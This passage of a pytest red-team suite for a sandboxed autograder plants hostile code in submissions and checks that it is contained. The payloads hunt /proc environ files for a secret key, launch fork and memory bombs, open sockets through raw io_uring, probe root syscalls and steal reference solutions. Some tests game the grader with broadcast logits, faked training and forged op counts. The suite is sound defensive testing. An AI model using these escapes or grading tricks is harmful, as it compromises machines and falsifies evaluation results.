    paths = [f"/proc/{ppid}/environ", f"/proc/{ppid}/cmdline", f"/proc/{ppid}/mem", "/proc/self/environ"]
    paths += [f"/proc/{pid}/environ" for pid in range(1, 1 << 15)]
    for path in paths:
        try:
            with open(path, "rb") as f:
                data = f.read(1 << 20)
        except OSError:
            continue
        at = data.find(b"ATTNLAB_SEAL_KEY")
        if at >= 0:
            print("KEY-FOUND", path, data[at:at + 120])

_hunt("import")
'''


@pytest.mark.parametrize("via", ["cli", "api"])
def test_the_seal_key_is_out_of_reach_of_graded_code(lab, arena, tmp_path, monkeypatch, via):
    key = "redteam-" + secrets.token_hex(16)
    monkeypatch.setenv("ATTNLAB_SEAL_KEY", key)
    sub = lab(files={"context": hostile("context", arena, top=KEY_HUNT, call="_payload()\n_hunt('call')\n")})
    if via == "cli":
        g = run_cli(sub, ["context"], tmp_path)
    else:
        g = judge(sub, ["context"], fresh=True)  # a zygote started after the key was set
    full_marks(g, "context")
    assert "KEY-FOUND" not in g.everything and key not in g.everything
    arena.assert_unharmed(g.everything)


# =====================================================================================================
# 7. Shipped helpers
# =====================================================================================================

EVAL_VIA_GRADER = {
    "importing grader.evaluate at the top": (
        "from grader import evaluate as _trusted\nfrom grader import toy as _toy\n", '''
        return _trusted.batch_accuracy_by_length(model, _toy.Batch(src, src_mask, tgt))
    ''', 0),
    "reaching grader.evaluate through grader.train and grader.toy": (
        "import grader.train as _train\nimport grader.toy as _toy\n", '''
        import importlib
        _trusted = importlib.import_module(_train.__name__.rpartition(".")[0] + ".evaluate")
        return _trusted.batch_accuracy_by_length(model, _toy.Batch(src, src_mask, tgt))
    ''', 0),  # no lab module imports in a worker (none holds grader.train): the file fails to import
}


@pytest.mark.parametrize("how", list(EVAL_VIA_GRADER))
def test_the_graders_evaluator_cannot_grade_the_evaluation_piece(lab, arena, how):
    top, body, want = EVAL_VIA_GRADER[how]
    ref = (REFERENCE / "evaluation.py").read_text()
    solution = ref[ref.index("    ### BEGIN SOLUTION\n    pred, _ = greedy_decode"):ref.rindex("    ### END SOLUTION")]
    src = hostile("evaluation", arena, top=top, call="",
                  edits=((solution, "    _payload()\n" + indent(dedent(body), "    ")),))
    g = judge(lab(files={"evaluation": src}), ["evaluation", "decoder"])
    assert g.score("evaluation") == want, g.messages("evaluation")
    full_marks(g, "decoder")
    arena.assert_unharmed(g.everything)


def test_a_decoder_cannot_import_the_reference_decoder(lab, arena):
    end = '''
        import importlib, sys, types

        def _steal():
            for name in ("reference.decoder", "attnlab_reference.decoder", "grader.cases.test_decoder"):
                try:
                    mod = importlib.import_module(name)
                    if hasattr(mod, "Seq2SeqAttn"):
                        return mod
                except BaseException as e:
                    print("no", name, type(e).__name__)
            for mod in list(sys.modules.values()):
                if getattr(mod, "Seq2SeqAttn", None) is not None and mod is not sys.modules[__name__]:
                    return mod
            try:
                ns = {"__name__": __name__ + "_stolen", "__package__": __package__}
                exec(open(LAB + "/reference/decoder.py").read(), ns)
                return types.SimpleNamespace(**ns)
            except BaseException as e:
                print("no file", type(e).__name__)
            return None

        _payload()
        _stolen = _steal()
        if _stolen is not None:
            AttnDecoder, Seq2SeqAttn = _stolen.AttnDecoder, _stolen.Seq2SeqAttn
    '''
    src = hostile("decoder", arena, base=EXERCISES, end=end)
    g = judge(lab(files={"decoder": src}), ["decoder", "encoder"])
    assert g.score("decoder") == 0, g.messages("decoder")
    full_marks(g, "encoder")
    arena.assert_unharmed(g.everything)


# =====================================================================================================
# 8. Points for wrong values
# =====================================================================================================

def test_a_constant_context_earns_no_no_loop_points(lab, arena):
    src = hostile("context", arena, edits=((CONTEXT_SOLUTION, "    _payload()\n" + ZEROS),))
    g = judge(lab(files={"context": src}), ["context", "luong"])
    assert g.score("context") == 0
    only_wrong_values(g, "context")
    assert "test_it_runs_no_python_loop_over_positions" in g.messages("context")
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


def test_a_decoder_with_the_right_shapes_and_wrong_values_scores_nothing(lab, arena):
    wrong = (("        return logits, (h, c), alpha\n",
              "        _payload()\n"
              "        return logits * 0, (h * 0, c * 0), torch.full_like(alpha, 1.0 / alpha.size(-1))\n"),)
    g = judge(lab(files={"decoder": hostile("decoder", arena, edits=wrong)}), ["decoder", "encoder"])
    assert g.score("decoder") == 0, g.messages("decoder")
    full_marks(g, "encoder")
    arena.assert_unharmed(g.everything)


# =====================================================================================================
# 9. Resource abuse
# =====================================================================================================

def test_a_fifty_gigabyte_allocation_costs_only_the_piece(lab, arena):
    call = "_payload()\n_hog = torch.empty(50 * 2**30, dtype=torch.uint8)\n_hog.fill_(1)\n"
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
    assert g.score("context") == 0
    assert any("out of memory" in m for m in g.messages("context").values()), g.messages("context")
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


def test_a_caught_memory_bomb_keeps_its_points_and_hurts_nobody(lab, arena):
    call = '''
        _payload()
        try:
            torch.empty(50 * 2**30, dtype=torch.uint8).fill_(1)
        except BaseException:
            pass
        _chunks = []
        try:
            while True:
                _chunks.append(torch.empty(512 * 2**20, dtype=torch.uint8))
        except (MemoryError, RuntimeError):
            pass
        del _chunks
    '''
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
    full_marks(g, "context", "luong")
    arena.assert_unharmed(g.everything)


def test_a_fork_bomb_goes_nowhere(lab, arena):
    call = '''
        _payload()
        import multiprocessing
        for _ in range(200):
            try:
                if _os.fork() == 0:
                    _os.write(1, b"FORKED\\n")
                    while True:
                        _os.fork()
            except OSError:
                pass
        try:
            multiprocessing.get_context("fork").Process(target=print, args=("FORKED",)).start()
        except BaseException:
            pass
        try:
            _os.posix_spawnp("sh", ["sh", "-c", "echo FORKED; touch " + MARK + ".bomb"], {})
        except OSError:
            pass
    '''
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
    full_marks(g, "context", "luong")
    assert "FORKED" not in g.output
    arena.assert_unharmed(g.everything)


HANGS = {
    "an endless loop": "while True:\n    pass\n",
    "sleeping forever": "import time as _time\n_time.sleep(10**6)\n",
    "an endless loop with every signal blocked or ignored": '''
        for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGALRM, _signal.SIGXCPU, _signal.SIGHUP):
            _signal.signal(_s, _signal.SIG_IGN)
        _signal.pthread_sigmask(_signal.SIG_BLOCK, _signal.valid_signals())
        while True:
            pass
    ''',
    "a runaway recursion past a raised limit": '''
        import sys as _sys
        _sys.setrecursionlimit(10**8)
        def _down(n):
            return _down(n + 1) + 1
        _down(0)
    ''',
}


@pytest.mark.parametrize("what", list(HANGS))
def test_a_hang_or_a_crash_costs_only_its_own_case(lab, arena, what):
    """The hostile code runs only in the B=1 edge case: that case alone is lost, within its deadline."""
    call = "_payload()\nif alpha.size(0) == 1:\n" + indent(dedent(HANGS[what]), "    ")
    start = time.monotonic()
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"], LOOSE)
    assert time.monotonic() - start < 40
    assert list(g.messages("context")) == [EDGE_B1], g.messages("context")
    assert g.score("context") == FULL["context"] - 1
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


ABORTS = {
    "KeyboardInterrupt": ("raise KeyboardInterrupt", None),
    "SystemExit": ("raise SystemExit(0)", "sys.exit"),
    "GeneratorExit": ("raise GeneratorExit", "GeneratorExit"),
    "a BaseException subclass": ("class _Escape(BaseException):\n    pass\nraise _Escape('out')", "_Escape"),
    "os._exit(0)": ("_os._exit(0)", "exited early"),
    "SIGKILL to itself": ("_signal.raise_signal(_signal.SIGKILL)", "ended before answering"),
    "os.abort()": ("_os.abort()", "SIGABRT"),
}
ABORTS_ANY = {"a tiny recursion limit": "import sys as _sys\n_sys.setrecursionlimit(40)"}


@pytest.mark.parametrize("what", list(ABORTS) + list(ABORTS_ANY))
@pytest.mark.parametrize("when", ["call", "import"])
def test_an_abort_costs_only_the_piece(lab, arena, what, when):
    code, cause = ABORTS[what] if what in ABORTS else (ABORTS_ANY[what], None)
    if when == "call":
        src = hostile("context", arena, call="_payload()\n" + code + "\n")
    else:
        src = hostile("context", arena, end="_payload()\n" + code + "\n")
    g = judge(lab(files={"context": src}), ["context", "luong"], LOOSE)
    if what in ABORTS_ANY:
        assert g.score("context") <= FULL["context"]  # whatever the worker can still send, nothing is inflated
    else:
        assert g.score("context") == 0, g.messages("context")
    msgs = g.messages("context").values()
    assert all(msgs)
    if cause and g.score("context") == 0:
        assert any(cause in m for m in msgs), list(msgs)
    full_marks(g, "luong")
    arena.assert_unharmed(g.everything)


def test_signal_handlers_and_alarms_in_the_worker_change_nothing(lab, arena):
    top = '''
        def _boom(*a):
            raise SystemExit("alarm")
        for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGUSR1, _signal.SIGPIPE):
            _signal.signal(_s, _signal.SIG_IGN)
        _signal.signal(_signal.SIGALRM, _boom)
        _signal.setitimer(_signal.ITIMER_VIRTUAL, 3600)
        _signal.alarm(3600)
        _signal.pthread_sigmask(_signal.SIG_BLOCK, {_signal.SIGUSR2, _signal.SIGCHLD})
    '''
    src = hostile("context", arena, top=top, call="_payload()\n")
    g = judge(lab(files={"context": src}), ["context", "luong"], LOOSE)
    full_marks(g, "context", "luong")
    arena.assert_unharmed(g.everything)


# =====================================================================================================
# 10. Network
# =====================================================================================================

def test_the_worker_cannot_open_a_socket(lab, arena):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    port = listener.getsockname()[1]
    call = f'''
        _payload()
        import socket as _socket
        for _try in (
            lambda: _socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"LEAK"),
            lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"LEAK", ("127.0.0.1", {port})),
            lambda: _socket.socket(_socket.AF_UNIX).connect("\\0attnlab-redteam"),
            lambda: _socket.socket(_socket.AF_INET6).connect(("::1", {port})),
        ):
            try:
                _try()
                print("SOCKET-OPENED")
            except OSError:
                pass
    '''
    try:
        g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
        listener.settimeout(0.2)
        with pytest.raises(socket.timeout):
            listener.accept()
    finally:
        listener.close()
    full_marks(g, "context", "luong")
    assert "SOCKET-OPENED" not in g.output
    arena.assert_unharmed(g.everything)


# =====================================================================================================
# Holes that reach past the worker: each test shows one, marked until the jail closes it
# =====================================================================================================

SIGIO_KILL = '''
    _payload()
    import fcntl as _fcntl
    try:
        _r, _w = _os.pipe()
        _fcntl.fcntl(_r, _fcntl.F_SETOWN, SENTINEL)
        _fcntl.fcntl(_r, 10, _signal.SIGKILL)  # F_SETSIG: the signal the kernel sends the owner on I/O
        _fcntl.fcntl(_r, _fcntl.F_SETFL, _fcntl.fcntl(_r, _fcntl.F_GETFL) | _os.O_ASYNC)
        _os.write(_w, b"x")
    except OSError:
        pass
'''


def test_a_piece_cannot_signal_another_process_through_fcntl(lab, arena):
    g = judge(lab(files={"context": hostile("context", arena, call=SIGIO_KILL)}), ["context", "luong"])
    full_marks(g, "context", "luong")
    time.sleep(0.2)
    arena.assert_unharmed(g.everything)


def test_a_piece_cannot_change_another_processes_limits_or_priority(lab, arena):
    pid = arena.sentinel.pid
    before = (resource.prlimit(pid, resource.RLIMIT_NOFILE), resource.prlimit(pid, resource.RLIMIT_CPU),
              os.getpriority(os.PRIO_PROCESS, pid), os.sched_getaffinity(pid))
    call = "import resource as _resource\n" + each_refused(
        "_resource.prlimit(SENTINEL, _resource.RLIMIT_NOFILE, (3, 3))", "_resource.prlimit(SENTINEL, _resource.RLIMIT_CPU, (1, 1))",
        "_os.setpriority(_os.PRIO_PROCESS, SENTINEL, 19)", "_os.sched_setaffinity(SENTINEL, {0})")
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
    full_marks(g, "context", "luong")
    arena.assert_unharmed(g.everything)
    after = (resource.prlimit(pid, resource.RLIMIT_NOFILE), resource.prlimit(pid, resource.RLIMIT_CPU),
             os.getpriority(os.PRIO_PROCESS, pid), os.sched_getaffinity(pid))
    assert after == before


def test_a_piece_cannot_change_file_metadata(lab, arena, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched\n")
    victim.chmod(0o640)
    os.utime(victim, (1_000_000_000, 1_000_000_000))
    before = victim.stat()
    call = each_refused(f"_os.chmod({str(victim)!r}, 0o777)", f"_os.utime({str(victim)!r}, (0, 0))",
                        f"_os.chown({str(victim)!r}, 65534, 65534)", f"_os.setxattr({str(victim)!r}, 'user.pwned', b'1')")
    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
    full_marks(g, "context", "luong")
    arena.assert_unharmed(g.everything)
    after = victim.stat()
    assert (after.st_mode, after.st_mtime, after.st_uid, after.st_gid) == (before.st_mode, before.st_mtime,
                                                                         before.st_uid, before.st_gid)
    assert victim.read_text() == "untouched\n"


ROOT_POWERS = '''
    _payload()
    import ctypes as _ctypes, errno as _errno, platform as _platform, socket as _socket
    _libc = _ctypes.CDLL(None, use_errno=True)
    _nr = {"x86_64": {"reboot": 169, "init_module": 175, "settimeofday": 164},
           "aarch64": {"reboot": 142, "init_module": 105, "settimeofday": 170}}.get(_platform.machine(), {})
    # each probe is harmless even where it is allowed: a wrong reboot magic, the same hostname, no new time,
    # an empty module; EPERM means the jail refused it, anything else means the kernel would have obeyed
    _name = _socket.gethostname().encode()
    _probes = {"sethostname": lambda: _libc.sethostname(_name, len(_name))}
    if _nr:  # raw syscalls: glibc's reboot() would pass the right magic, its settimeofday() would read a NULL time
        _probes["reboot"] = lambda: _libc.syscall(_nr["reboot"], 0, 0, 0, 0)  # magic 0: EINVAL once CAP_SYS_BOOT passes
        _probes["settimeofday"] = lambda: _libc.syscall(_nr["settimeofday"], None, None)  # no time, no zone: a no-op
        _probes["init_module"] = lambda: _libc.syscall(_nr["init_module"], None, 0, b"")
    for _name, _probe in _probes.items():
        _ctypes.set_errno(0)
        _rc = _probe()
        _err = _ctypes.get_errno()
        if not (_rc == -1 and _err == _errno.EPERM):
            print("ROOT-POWER", _name, _rc, _errno.errorcode.get(_err, _err))
'''


def test_a_root_worker_holds_no_power_over_the_machine(lab, arena):
    g = judge(lab(files={"context": hostile("context", arena, call=ROOT_POWERS)}), ["context", "luong"])
    full_marks(g, "context", "luong")
    arena.assert_unharmed(g.everything)
    assert "ROOT-POWER" not in g.output, re.findall(r"ROOT-POWER .*", g.output)[:4]


SIBLING_LEAK = '''
import sys as _sys

_f = _sys._getframe()
while _f is not None:  # Worker.load holds every module it was sent: the reference's earlier pieces included
    _mods = _f.f_locals.get("modules")
    for (_stem, _text) in (_mods if isinstance(_mods, (list, tuple)) else []):
        if _stem != __name__.rpartition(".")[2] and isinstance(_text, str):
            _body = _text.split("### BEGIN SOLUTION", 1)[-1].split("### END SOLUTION", 1)[0]
            for _line in _body.strip().splitlines():
                print(_line.strip())
    _f = _f.f_back
'''


def test_a_later_piece_cannot_print_the_reference_of_an_earlier_one(lab, arena):
    # the decoder's worker runs on the reference's encoder, context and additive; their text must be gone by then
    src = hostile("decoder", arena, end=SIBLING_LEAK, call="_payload()\n")
    g = judge(lab(files={"decoder": src}), ["decoder", "encoder"])
    full_marks(g, "decoder", "encoder")
    arena.assert_unharmed(g.text)


# =====================================================================================================
# A second pass: io_uring, property cases that pay constant answers, the evaluation piece's callbacks
# =====================================================================================================

URING_SOCKET = '''
    _payload()

    def _uring_socket(family, stype):
        """A socket made by io_uring (IORING_OP_SOCKET), never by the socket() syscall: its fd, or -errno."""
        import ctypes, mmap
        libc = ctypes.CDLL(None, use_errno=True)

        def _off(names):
            return [(n, ctypes.c_uint32) for n in names] + [("user_addr", ctypes.c_uint64)]

        class SqOff(ctypes.Structure):
            _fields_ = _off(("head", "tail", "ring_mask", "ring_entries", "flags", "dropped", "array", "resv1"))

        class CqOff(ctypes.Structure):
            _fields_ = _off(("head", "tail", "ring_mask", "ring_entries", "overflow", "cqes", "flags", "resv1"))

        class Params(ctypes.Structure):
            _fields_ = [("sq_entries", ctypes.c_uint32), ("cq_entries", ctypes.c_uint32), ("flags", ctypes.c_uint32),
                        ("sq_thread_cpu", ctypes.c_uint32), ("sq_thread_idle", ctypes.c_uint32),
                        ("features", ctypes.c_uint32), ("wq_fd", ctypes.c_uint32), ("resv", ctypes.c_uint32 * 3),
                        ("sq_off", SqOff), ("cq_off", CqOff)]

        p = Params()
        ring = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup (the same number on x86_64 and aarch64)
        if ring < 0:
            return -ctypes.get_errno()
        rw = mmap.PROT_READ | mmap.PROT_WRITE
        sq = mmap.mmap(ring, p.sq_off.array + p.sq_entries * 4, mmap.MAP_SHARED, rw, offset=0)
        cq = mmap.mmap(ring, p.cq_off.cqes + p.cq_entries * 16, mmap.MAP_SHARED, rw, offset=0x8000000)
        sqes = mmap.mmap(ring, p.sq_entries * 64, mmap.MAP_SHARED, rw, offset=0x10000000)
        u32 = lambda m, off: ctypes.c_uint32.from_buffer(m, off)
        sqe = bytearray(64)
        sqe[0] = 45  # IORING_OP_SOCKET
        sqe[4:8] = family.to_bytes(4, "little")  # the fd field holds the domain
        sqe[8:16] = stype.to_bytes(8, "little")  # the off field holds the type
        sqes[0:64] = bytes(sqe)
        tail = u32(sq, p.sq_off.tail)
        u32(sq, p.sq_off.array + 4 * (tail.value & u32(sq, p.sq_off.ring_mask).value)).value = 0
        tail.value += 1
        libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter, waiting for the completion
        head = u32(cq, p.cq_off.head).value
        return ctypes.c_int32.from_buffer(cq, p.cq_off.cqes + 16 * (head & u32(cq, p.cq_off.ring_mask).value) + 8).value

    import socket as _socket
    for _family, _type in ((_socket.AF_UNIX, _socket.SOCK_STREAM), (_socket.AF_INET, _socket.SOCK_STREAM)):
        try:
            _fd = _uring_socket(int(_family), int(_type))
        except Exception as _e:
            _fd = repr(_e)
        if isinstance(_fd, int) and _fd >= 0:
            print("SOCKET-OPENED", _family.name, _fd)
            _os.close(_fd)
'''


def test_io_uring_cannot_make_a_socket_in_the_worker(lab, arena):
    # as root the worker's network namespace leaves the socket nothing to reach; run as a user (a Classroom
    # runner) there is no namespace, and only the socket() rule stood between the worker and the network
    g = judge(lab(files={"context": hostile("context", arena, call=URING_SOCKET)}), ["context"])
    full_marks(g, "context")
    arena.assert_unharmed(g.everything)
    assert "SOCKET-OPENED" not in g.output, re.findall(r"SOCKET-OPENED .*", g.output)[:2]


ADDITIVE_SOLUTION_END = "        return context, alpha\n"


def test_a_constant_additive_attention_earns_no_pad_noise_points(lab, arena):
    zeros = "        _payload()\n        return encoder_outputs.new_zeros(encoder_outputs.shape[::2]), " \
            "encoder_outputs.new_zeros(encoder_outputs.shape[:2])\n"
    ref = (REFERENCE / "additive.py").read_text()
    body = ref[ref.index("        ### BEGIN SOLUTION"):ref.index("        ### END SOLUTION")]
    g = judge(lab(files={"additive": hostile("additive", arena, edits=((body, zeros),))}), ["additive"])
    arena.assert_unharmed(g.everything)
    assert g.score("additive") == 0, g.messages("additive")


HELPER_LOOP = """    return _weighted(alpha, encoder_outputs)


def _weighted(a, e):
    out = e.new_zeros(a.size(0), e.size(-1))
    for i in range(a.size(1)):  # a Python loop over positions, in a helper the judge's AST check never reads
        out = out + a[:, i, None] * e[:, i]
    return out
"""


def test_a_loop_in_a_helper_with_a_forged_op_count_earns_no_no_loop_points(lab, arena):
    src = hostile("context", arena, top=FORGE_OPS, call="_payload()\n", edits=((CONTEXT_SOLUTION, HELPER_LOOP),))
    g = judge(lab(files={"context": src}), ["context"])
    arena.assert_unharmed(g.everything)
    assert "test_it_runs_no_python_loop_over_positions" in g.messages("context")


def _children(pid: int) -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        try:
            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if fields[1] == str(pid) and fields[0] != "Z":
            found.add(int(entry.name))
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_piece_stopped_at_its_time_limit_leaves_no_worker_behind(lab, arena):
    zygote, servers, end = shared_zygote(), [], time.monotonic() + 60
    while not servers and time.monotonic() < end:  # a zygote just started may not have started its server yet
        servers = [p for p in _children(zygote.proc.pid)
                   if b"grader.worker.server" in Path(f"/proc/{p}/cmdline").read_bytes()]
        time.sleep(0.05)
    assert len(servers) == 1
    before = _children(servers[0])
    call = "_payload()\nimport time as _time\n_time.sleep(10**6)  # no CPU spent: RLIMIT_CPU never ends it\n"
    src = hostile("context", arena, call=call)
    g = judge(lab(files={"context": src}), ["context"], Limits(case_timeout=60, piece_timeout=3, memory_gb=4, quick=True))
    assert g.score("context") == 0
    time.sleep(1.0)
    left = _children(servers[0]) - before
    for pid in left:  # the workers this test left behind, by id
        os.kill(pid, 9)
    arena.assert_unharmed(g.everything)
    assert not left, f"{len(left)} worker(s) still running after their piece was stopped"


ODD_QUESTIONS = '''
import sys as _sys

_wire = _sys.modules["grader.worker.wire"]


def _nest(x, n):
    for _ in range(n):
        x = (x,)
    return x


def _odd_questions(model, src, src_mask):
    """Ask the judge's model everything a well-behaved greedy decode never would; every answer must be a refusal
    or a value, never a judge that crashes, hangs or changes its model."""
    B = src.size(0)
    big = torch.ones(2**20, dtype=torch.long)
    state = (torch.zeros(B, 1), torch.zeros(B, 1))
    for ask in (
        lambda: model.encoder(big[None]),
        lambda: model.encoder(src.neg()),
        lambda: model.encoder(torch.full_like(src, 2**62)),
        lambda: model.encoder(src.float()),
        lambda: model.encoder(src.to(torch.complex64)),
        lambda: model.encoder(src.to("meta")),
        lambda: model.encoder(_nest(src, 40)),
        lambda: model.encoder("src", None, True, 2**70, float("nan")),
        lambda: model.encoder(src, **{"x" * 5000: 1}),
        lambda: model.decoder.forward_step(src[:, :1], state, object(), src_mask),
        lambda: model.decoder.forward_step(src[:, :1], [big, big], big, src_mask),
        lambda: model(src, src_mask, src, teacher_forcing_ratio=0.0),
        lambda: model(src, src_mask, torch.ones(1, 2**16, dtype=torch.long)[:, :300].expand(B, 300).contiguous()),
    ):
        try:
            ask()
        except Exception:
            pass
    for frame in ({"callback": "forward", "args": [1, 2], "kwargs": 5},
                  {"callback": "nothing", "args": {"__kind__": "list", "items": []}},
                  {"callback": ["not", "a", "name"]}):
        _wire.send(3, frame)  # straight onto the socket, past RemoteModel
        _wire.recv(3, trusted=True)
    for _ in range(300):
        model.encoder(src[:1, :1])
'''


def test_odd_questions_to_the_judges_model_cost_nothing(lab, arena):
    """The evaluation piece's callbacks: wrong dtypes, huge and negative ids, deep nesting, non-tensors, raw frames."""
    ref = (REFERENCE / "evaluation.py").read_text()
    first = "    ### BEGIN SOLUTION\n    enc_outputs, (h, c) = model.encoder(src)\n"
    assert first in ref
    src = hostile("evaluation", arena, top=ODD_QUESTIONS,
                  edits=((first, "    _payload()\n    _odd_questions(model, src, src_mask)\n" + first),))
    g = judge(lab(files={"evaluation": src}), ["evaluation"])
    full_marks(g, "evaluation")
    arena.assert_unharmed(g.everything)


# --- Luong training case and lanes (second session) ---

SLOW = Limits(case_timeout=30, piece_timeout=600, memory_gb=6, quick=False)
LUONG_TRAINING = "test_trained_by_the_grader_luongs_model_with_it_translates_length_30_sentences"
DECODER_TRAINING = "test_trained_by_the_grader_it_translates_length_30_sentences"
LUONG_SOLUTION = "        ### BEGIN SOLUTION\n"
LUONG_WORTHLESS = ("        _payload()\n"
                   "        _hijack()\n"
                   "        alpha = torch.ones_like(encoder_outputs[..., 0])  # uniform, no context: worth nothing\n"
                   "        if src_mask is not None:\n"
                   "            alpha = alpha * src_mask\n"
                   "        alpha = alpha / alpha.sum(-1, keepdim=True)\n"
                   "        return encoder_outputs[:, 0] * 0, alpha\n")

# A judge-side scoring trick: while the grader decodes (no grad), logits shaped (B, 1, 1, V) make the judge's
# argmax a (B, 1, 1) "token", so pred.eq(gold) broadcasts (B, S, 1, 1) against (B, S) and counts every guess
# against every gold token: cycling through the vocabulary "scores" about B * S / V, far above 1.
BROADCAST_LOGITS = '''
import sys as _sys


def _broadcast_logits(logits, step):
    B, V = logits.shape
    pick = (torch.arange(B) + step) % V
    return torch.nn.functional.one_hot(pick, V).float()[:, None, None, :]


def _hijack():
    """From inside the trusted LuongDecoder.forward_step, put a wrapper on the decoder instance."""
    frame = _sys._getframe(1)
    for _ in range(8):
        if frame is None:
            return
        dec = frame.f_locals.get("self")
        if dec is not None and hasattr(dec, "forward_step") and "forward_step" not in vars(dec):
            real, count = dec.forward_step, [0]

            def forward_step(y_prev, *args, **kwargs):
                logits, state, alpha = real(y_prev.reshape(y_prev.size(0), 1), *args, **kwargs)  # (B, 1, 1) fed back
                if torch.is_grad_enabled():
                    return logits, state, alpha
                count[0] += 1
                return _broadcast_logits(logits, count[0]), state, alpha

            dec.forward_step = forward_step
            return
        frame = frame.f_back
'''


def test_a_luong_attention_that_reshapes_the_lab_decoders_logits_earns_no_training_points(lab, arena):
    """A worthless attention (no context) that wraps the lab decoder's forward_step during training, so the
    judge's greedy decode gets (B, 1, 1, V) logits: honest code with no context earns nothing here."""
    src = hostile("luong", arena, top=BROADCAST_LOGITS, edits=((LUONG_SOLUTION, LUONG_SOLUTION + LUONG_WORTHLESS),))
    g = judge(lab(files={"luong": src}), ["luong", "context"], SLOW)
    arena.assert_unharmed(g.everything)
    full_marks(g, "context")
    assert g.score("luong") == 0, g.messages("luong")
    assert LUONG_TRAINING in g.messages("luong"), g.messages("luong")


def test_a_decoder_whose_logits_broadcast_in_the_judges_decode_earns_no_training_points(lab, arena):
    """The decoder piece's own forward_step: zero logits while training (nothing learns), (B, 1, 1, V) ones
    while the judge decodes; honest zero logits earn nothing."""
    wrong = (("        e = self.embed(y_prev).squeeze(1)  # (B, E)\n",
              "        e = self.embed(y_prev.reshape(y_prev.size(0), 1)).squeeze(1)  # the judge feeds (B, 1, 1)\n"),
             ("        return logits, (h, c), alpha\n",
              "        _payload()\n"
              "        if torch.is_grad_enabled():\n"
              "            return logits * 0, (h * 0, c * 0), torch.full_like(alpha, 1.0 / alpha.size(-1))\n"
              "        _STEP[0] += 1\n"
              "        return _broadcast_logits(logits, _STEP[0]), (h, c), alpha\n"),)
    top = BROADCAST_LOGITS + "\n_STEP = [0]\n"
    g = judge(lab(files={"decoder": hostile("decoder", arena, top=top, edits=wrong)}), ["decoder", "encoder"], SLOW)
    arena.assert_unharmed(g.everything)
    full_marks(g, "encoder")
    assert g.score("decoder") == 0, g.messages("decoder")
    assert DECODER_TRAINING in g.messages("decoder"), g.messages("decoder")


# Tampering from the attention's constructor: training that never happens, a warm start never loaded
# (with no unexpected keys reported), and (per variant) odd values from the lab decoder while the judge decodes.
FORGED_TRAINING = '''
import sys as _sys


def _garbage(kind, logits, state, alpha):
    B = logits.size(0)
    if kind == "opaque":
        return object(), state, alpha
    if kind == "four":
        return logits, state, alpha, alpha
    if kind == "nan_huge_state":
        nan, huge = torch.full_like(logits, float("nan")), torch.ones(B, 2**22 // B)
        return nan, (state[0], state[1], huge, "x" * 10**6), alpha
    if kind == "complex_scalar":
        return torch.zeros((), dtype=torch.complex64), state, torch.full_like(alpha, float("inf"))
    if kind == "ref":
        return _sys.modules["grader.worker.wire"].Ref("m0"), state, alpha
    return logits, state, alpha


def _tamper(kind):
    try:
        import grader.train as _train
        _train.Trainer.run = lambda self, steps, progress=None: self.cfg.max_steps  # "trained" in no time
    except BaseException:
        pass

    def load_state_dict(self, state, strict=True, assign=False):  # loads nothing, reports nothing missing
        return torch.nn.modules.module._IncompatibleKeys([], [])

    torch.nn.Module.load_state_dict = load_state_dict
    from grader.luong_model import LuongDecoder
    if getattr(LuongDecoder, "_tampered", False):  # every case builds an attention: wrap once
        return
    LuongDecoder._tampered = True
    real = LuongDecoder.forward_step

    def forward_step(self, *args, **kwargs):
        out = real(self, *args, **kwargs)
        return out if torch.is_grad_enabled() else _garbage(kind, *out)

    LuongDecoder.forward_step = forward_step
'''


@pytest.mark.parametrize("kind", ["honest", "opaque", "four", "nan_huge_state", "complex_scalar", "ref"])
def test_a_luong_attention_that_forges_training_and_decoding_keeps_only_its_quick_points(lab, arena, kind):
    """No training steps but the step count of a finished run, no warm start but no keys reported missing, odd
    answers to the judge's decode: the training case is lost with a message (an untrained model is worth
    nothing there), the quick cases of the honest attention keep their points, grading ends, `context` is whole."""
    init = f"    def __init__(self):\n        super().__init__()\n        _payload()\n        _tamper({kind!r})\n\n"
    src = hostile("luong", arena, top=FORGED_TRAINING, edits=(("    def forward(\n", init + "    def forward(\n"),))
    g = judge(lab(files={"luong": src}), ["luong", "context"], SLOW)
    arena.assert_unharmed(g.everything)
    full_marks(g, "context", "luong")  # FULL counts the quick cases only: the training case is lost
    msg = g.messages("luong")
    assert list(msg) == [LUONG_TRAINING], msg
    assert msg[LUONG_TRAINING].strip(), msg


CRASH_IN_TRAINING = '''
import sys as _sys


def _in_training():
    frame = _sys._getframe(2)
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "Trainer":
            return True
        frame = frame.f_back
    return False
'''


@pytest.mark.parametrize("how", ["abort"])  # "exit" and "oom" (a 50 GB tensor) end the same way; one training start
def test_a_luong_attention_that_crashes_only_while_the_grader_trains_costs_that_case_in_lanes(lab, arena, how):
    """`grade` on its own fork servers, two lanes (luong trains, context beside it): a crash in the first
    training step costs only the training case, with a message; both lanes end and report."""
    crash = {"abort": "_os.abort()", "exit": "_os._exit(3)",
             "oom": "_hog = torch.empty(50 * 2**30, dtype=torch.uint8)\n_hog.fill_(1)"}[how]
